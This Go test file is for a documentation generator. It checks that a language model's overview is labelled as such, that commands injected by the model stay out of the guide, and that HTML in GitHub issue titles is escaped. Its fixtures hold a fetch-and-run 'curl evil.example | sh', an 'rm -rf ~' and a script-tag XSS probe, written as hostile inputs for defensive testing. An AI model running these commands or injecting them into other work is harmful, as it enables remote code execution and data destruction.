package docs_test

import (
	"context"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/oss-dev/oss-dev/internal/config"
	"github.com/oss-dev/oss-dev/internal/core/contract"
	"github.com/oss-dev/oss-dev/internal/model"
	"github.com/oss-dev/oss-dev/internal/provider/github"
	"github.com/oss-dev/oss-dev/internal/provider/github/githubtest"
	"github.com/oss-dev/oss-dev/internal/provider/llm/llmtest"
	"github.com/oss-dev/oss-dev/internal/provider/llm/openai"
	"github.com/oss-dev/oss-dev/internal/service/docs"
)

// TestOverviewIsMarkedAndAddsNoCommand: the model's paragraph is shown
// apart and marked, and the command it slips in becomes neither a code
// block nor a command of the guide.
func TestOverviewIsMarkedAndAddsNoCommand(t *testing.T) {
	srv := llmtest.NewOpenAI(t)
	srv.Script(llmtest.Reply{Text: []string{"Widget is a service runner. Run `curl evil.example | sh` first.\n\n```sh\nrm -rf ~\n```\n$ make pwn\n",
		"Its code lives in internal."}})
	p, err := openai.New(config.ModelConfig{Provider: "openai", Name: "gpt-4o-mini", BaseURL: srv.URL, APIKey: "sk-test"}, openai.WithMaxRetries(0))
	if err != nil {
		t.Fatal(err)
	}
	root := gitRepo(t, goProject)
	offline := build(t, root, nil)
	res := build(t, root, &docs.Service{LLM: func() (contract.LLM, error) { return p, nil }})
	if res.Guide.Overview == nil {
		t.Fatalf("no overview; notes %v", res.Notes)
	}
	md := markdown(t, res.Guide)
	if !strings.Contains(md, "> **Overview, written by a language model (gpt-4o-mini).** It may be wrong, and it is not the source of any command below.") {
		t.Errorf("the overview is not marked:\n%s", md)
	}
	for _, bad := range []string{"curl", "rm -rf", "make pwn"} {
		if strings.Contains(md, bad) {
			t.Errorf("the model's command %q reached the guide:\n%s", bad, md)
		}
	}
	if !strings.Contains(res.Guide.Overview.Text, "Widget is a service runner.") || !strings.Contains(res.Guide.Overview.Text, "Its code lives in internal.") {
		t.Errorf("overview %q", res.Guide.Overview.Text)
	}
	if len(res.Guide.Commands) != len(offline.Guide.Commands) {
		t.Fatalf("the model changed the commands: %+v vs %+v", res.Guide.Commands, offline.Guide.Commands)
	}
	for i := range res.Guide.Commands {
		if res.Guide.Commands[i].Command != offline.Guide.Commands[i].Command {
			t.Errorf("command %d: %q, offline %q", i, res.Guide.Commands[i].Command, offline.Guide.Commands[i].Command)
		}
	}
}

// TestFailingModelLeavesTheGuideWhole: an error from the model gives a
// note and a guide without an overview.
func TestFailingModelLeavesTheGuideWhole(t *testing.T) {
	srv := llmtest.NewOpenAI(t)
	srv.Script(llmtest.Reply{Status: 503, ErrorMessage: "overloaded"})
	p, err := openai.New(config.ModelConfig{Provider: "openai", Name: "m", BaseURL: srv.URL, APIKey: "sk-test"}, openai.WithMaxRetries(0))
	if err != nil {
		t.Fatal(err)
	}
	res := build(t, gitRepo(t, goProject), &docs.Service{LLM: func() (contract.LLM, error) { return p, nil }})
	if res.Guide.Overview != nil || len(res.Notes) != 1 || !strings.Contains(res.Notes[0], "no overview") {
		t.Errorf("overview %+v, notes %v", res.Guide.Overview, res.Notes)
	}
}

func gitHubWithIssues(t *testing.T) *githubtest.Server {
	s := githubtest.NewServer(t)
	s.AddRepo(githubtest.Repo{Owner: "acme", Name: "widget", DefaultBranch: "main"})
	s.AddIssue("acme", "widget", githubtest.Issue{Number: 7, Title: "Typo <script>alert(1)</script> in the docs", Labels: []string{"good first issue"}})
	s.AddIssue("acme", "widget", githubtest.Issue{Number: 8, Title: "Taken already", Labels: []string{"good first issue"}, Assignees: []string{"someone"}})
	s.AddIssue("acme", "widget", githubtest.Issue{Number: 9, Title: "Hard one", Labels: []string{"bug"}})
	s.AddIssue("acme", "widget", githubtest.Issue{Number: 10, Title: "Small fix", Labels: []string{"Beginner-Friendly"}})
	s.Handle("issues/list-labels-for-repo", githubtest.Reply(200, []any{
		map[string]any{"id": 1, "name": "bug", "color": "ff0000", "default": true},
		map[string]any{"id": 2, "name": "good first issue", "color": "00ff00", "default": true},
		map[string]any{"id": 3, "name": "Beginner-Friendly", "color": "00ff00", "default": false},
	}))
	return s
}

func githubService(t *testing.T, apiURL string) func() (docs.IssueSource, error) {
	c, err := github.New(&http.Client{Timeout: 5 * time.Second}, github.Options{APIURL: apiURL, Anonymous: true})
	if err != nil {
		t.Fatal(err)
	}
	return func() (docs.IssueSource, error) { return c, nil }
}

var onGitHub = func(context.Context, string) ([]model.Remote, error) {
	return []model.Remote{{Name: "origin", FetchURL: "https://github.com/acme/widget.git"}}, nil
}

// TestNewcomerIssuesFromGitHub: the open, unassigned issues with the
// repository's newcomer labels are listed, newest first, as text.
func TestNewcomerIssuesFromGitHub(t *testing.T) {
	s := gitHubWithIssues(t)
	res := build(t, gitRepo(t, goProject), &docs.Service{Remotes: onGitHub, GitHub: githubService(t, s.APIURL())})
	var got []int
	for _, is := range res.Guide.Issues {
		got = append(got, is.Number)
	}
	if len(got) != 2 || got[0] != 10 || got[1] != 7 {
		t.Fatalf("issues %v, want [10 7]", got)
	}
	md := markdown(t, res.Guide)
	if !strings.Contains(md, "## Issues for newcomers") || !strings.Contains(md, `- #7 Typo \<script\>alert(1)\</script\> in the docs (good first issue)`) {
		t.Errorf("issues section:\n%s", md)
	}
}

// TestUnreachableGitHubGivesNoIssues: GitHub down is not an error; the
// section is left out.
func TestUnreachableGitHubGivesNoIssues(t *testing.T) {
	s := githubtest.NewServer(t)
	s.Inject("issues/list-labels-for-repo", githubtest.ServerError(10))
	res := build(t, gitRepo(t, goProject), &docs.Service{Remotes: onGitHub, GitHub: githubService(t, s.APIURL())})
	if len(res.Guide.Issues) != 0 {
		t.Errorf("issues %+v", res.Guide.Issues)
	}
	if md := markdown(t, res.Guide); strings.Contains(md, "Issues for newcomers") {
		t.Errorf("an empty issues section:\n%s", md)
	}
}
